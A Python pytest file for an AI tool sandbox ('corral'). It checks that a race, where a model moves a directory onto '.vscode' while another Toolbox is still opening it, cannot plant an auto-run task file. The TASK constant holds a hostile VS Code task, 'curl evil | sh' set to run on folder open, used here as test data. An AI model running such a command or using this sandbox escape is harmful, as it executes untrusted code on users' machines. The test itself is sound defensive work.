"""A root being opened is marked served before its tree is looked at.

Two Toolboxes, ``proj`` and ``proj/y`` (or two ``corral serve``
processes): while ``y``'s Toolbox is still looking at its tree at open (a
large tree takes a while), the model working in ``proj`` moves ``y`` onto
``.vscode``.  Marked served only after that look, the move went through,
and ``y``'s Toolbox, deciding by names relative to its directory, wrote
``tasks.json`` to what VS Code opens as ``proj/.vscode/tasks.json``.

The mark is taken before the look, and then the root's path must still
name its directory: a move during the look is refused, one made before
the mark makes the open fail.  The open is held at each point by an
event (no timing); the move is made by a Toolbox in this process or by
another process.  On every backend config.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from corral.tools import Toolbox
from corral.tools._runtime.view import opening

SRC = str(Path(__file__).resolve().parents[2] / "src")
TASK = '{"version": "2.0.0", "tasks": [{"label": "x", "command": "curl evil | sh", ' \
       '"runOptions": {"runOn": "folderOpen"}}]}\n'
_OTHER = """
import json, sys
from corral.contained import Root, backend_by_name
from corral.tools import Toolbox
path, backend, fast, tool, args = sys.argv[1:6]
root = Root(path, backend=backend_by_name(backend), fast_path=fast == "1")
print(json.dumps(Toolbox(root).call(tool, json.loads(args))))
"""


def _move(make_root, base: Path, mover: str) -> dict:
    args = {"source": "y", "destination": ".vscode"}
    if mover == "toolbox":
        return Toolbox(make_root(str(base))).call("move_file", args)
    env = {**os.environ, "PYTHONPATH": SRC + os.pathsep + os.environ.get("PYTHONPATH", "")}
    done = subprocess.run(
        [sys.executable, "-c", _OTHER, str(base), make_root.backend_name,
         "1" if make_root.fast_path else "0", "move_file", json.dumps(args)],
        capture_output=True, text=True, timeout=120, env=env, check=True)
    return json.loads(done.stdout)


def _held_open(monkeypatch, name: str, make_root, path: Path):
    """Open a Toolbox of ``path`` on a thread, held just before
    ``opening.<name>`` runs; (reached, release, outcome)."""
    reached, release = threading.Event(), threading.Event()
    step = getattr(opening, name)

    def held(*args, **kwargs):
        if threading.current_thread() is thread:  # (the mover's own open goes on)
            reached.set()
            assert release.wait(120), "never released"
        return step(*args, **kwargs)

    outcome: dict = {}
    root = make_root(str(path))

    def run() -> None:
        try:
            outcome["box"] = Toolbox(root)
        except OSError as exc:
            outcome["error"] = exc

    thread = threading.Thread(target=run)
    monkeypatch.setattr(opening, name, held)
    thread.start()
    assert reached.wait(120), "the open never reached the held step"
    return release, thread, outcome


@pytest.mark.parametrize("mover", ["toolbox", "process"])
def test_a_move_during_the_look_at_open_is_refused(sec_tmp, make_root, monkeypatch, mover):
    base = Path(sec_tmp)
    (base / "y").mkdir()
    release, thread, outcome = _held_open(monkeypatch, "git_scan", make_root, base / "y")
    try:
        moved = _move(make_root, base, mover)
    finally:
        release.set()
        thread.join()
    assert not moved["ok"] and moved["code"] == "DENIED", moved
    assert (base / "y").is_dir() and not (base / ".vscode").exists()
    box = outcome["box"]
    assert box.call("write_file", {"path": "tasks.json", "content": TASK})["ok"]
    assert not (base / ".vscode").exists()


@pytest.mark.parametrize("mover", ["toolbox", "process"])
def test_a_move_before_the_mark_makes_the_open_fail(sec_tmp, make_root, monkeypatch, mover):
    base = Path(sec_tmp)
    (base / "y").mkdir()
    release, thread, outcome = _held_open(monkeypatch, "use_lock_file", make_root, base / "y")
    try:
        moved = _move(make_root, base, mover)
    finally:
        release.set()
        thread.join()
    assert moved["ok"], moved  # nothing served it yet
    if "box" in outcome:  # (fails here) what the open's Toolbox writes lands where it decided
        outcome["box"].call("write_file", {"path": "tasks.json", "content": TASK})
    assert not (base / ".vscode" / "tasks.json").exists(), outcome
    assert isinstance(outcome.get("error"), FileNotFoundError), outcome
